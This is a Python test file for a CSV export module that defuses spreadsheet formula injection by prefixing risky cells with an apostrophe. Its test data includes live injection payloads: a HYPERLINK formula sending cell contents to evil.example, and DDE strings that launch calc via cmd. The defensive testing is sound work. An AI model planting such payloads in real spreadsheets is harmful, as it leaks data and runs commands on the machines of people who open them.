import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from service.exports.cells import csv_line, guarded, import_line, tab_line

OPENERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://evil.example?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example?x="&A1,"Click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\tplain", "'\tplain"),
        ("  =1+1", "'  =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("\x00=1+1", "'=1+1"),
        ("=\x001+1", "'=1+1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠SUM(1)", "'＠SUM(1)"),
        ("-", "'-"),
        ("-1-1", "'-1-1"),
        ("-12.50", "-12.50"),
        ("+49", "+49"),
        ("-0,5", "-0,5"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        ("Größe 42", "Größe 42"),
        ("", ""),
        (None, ""),
        (0, "0"),
        (-3, "-3"),
    ],
)
def test_what_a_spreadsheet_would_work_out_is_text(value: object, cell: str) -> None:
    assert guarded(value) == cell


@given(st.lists(st.text(), min_size=1, max_size=5))
@example(["=1", "\r", "\ud800"])
def test_no_line_holds_a_formula_and_every_cell_comes_back(values: list[str]) -> None:
    line = csv_line(values).decode()
    (cells,) = csv.reader(io.StringIO(line, newline=""), strict=True)

    assert line.startswith('"') and line.endswith('"\r\n')
    for cell, value in zip(cells, values, strict=True):
        is_number = cell.lstrip("+-").replace(".", "", 1).replace(",", "", 1).isdigit()
        assert is_number or not cell.lstrip(" \u00a0").startswith(OPENERS)
        assert cell.removeprefix("'") in {kept(value), kept(value).removeprefix("'")}


@given(st.lists(st.text(), min_size=1, max_size=5))
@example(["=1+1", "@home Mug", "-"])
def test_a_line_for_an_import_has_every_cell_as_it_was(values: list[str]) -> None:
    (cells,) = csv.reader(io.StringIO(import_line(values).decode(), newline=""), strict=True)

    assert cells == [kept(value) for value in values]


def kept(value: str) -> str:
    return value.replace("\x00", "").encode(errors="replace").decode()


@given(st.lists(st.text(), min_size=1, max_size=5))
@example(["=1+1", "@home Mug", "\r\n\t"])
def test_a_line_with_tabs_has_every_value_in_a_cell_of_its_own(values: list[str]) -> None:
    line = tab_line(values).decode()

    assert line.endswith("\n")
    assert line.count("\n") == 1 and "\r" not in line
    cells = line[:-1].split("\t")
    assert [cell.split() for cell in cells] == [kept(value).split() for value in values]
